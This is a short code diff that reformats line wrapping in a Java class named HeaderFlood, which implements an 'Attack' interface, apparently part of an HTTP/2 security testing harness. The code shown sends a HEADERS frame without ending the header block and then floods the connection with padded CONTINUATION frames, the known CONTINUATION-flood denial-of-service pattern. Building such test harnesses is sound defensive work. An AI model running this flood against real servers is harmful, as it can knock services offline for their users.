@@ -37,8 +37,7 @@ final class HeaderFlood implements Attack {
       connection.send(Http2.frame(Http2.HEADERS, Http2.END_STREAM, 1, begin));
       byte[] more = Http2.block("x", "y".repeat(FRAME_BYTES));
       int frames = 0;
-      while (frames < MOST_FRAMES
-          && connection.send(Http2.frame(Http2.CONTINUATION, 0, 1, more))) {
+      while (frames < MOST_FRAMES && connection.send(Http2.frame(Http2.CONTINUATION, 0, 1, more))) {
         frames++;
       }
       return frames;
@@ -58,8 +57,7 @@ final class HeaderFlood implements Attack {
     }
     try (Http2 connection = new Http2(site.wire())) {
       connection.send(
-          Http2.frame(
-              Http2.HEADERS, Http2.END_HEADERS | Http2.END_STREAM, 1, block.toByteArray()));
+          Http2.frame(Http2.HEADERS, Http2.END_HEADERS | Http2.END_STREAM, 1, block.toByteArray()));
       for (int i = 0; i < 50 && !connection.hasEnded(); i++) {
         Pause.millis(20);
       }
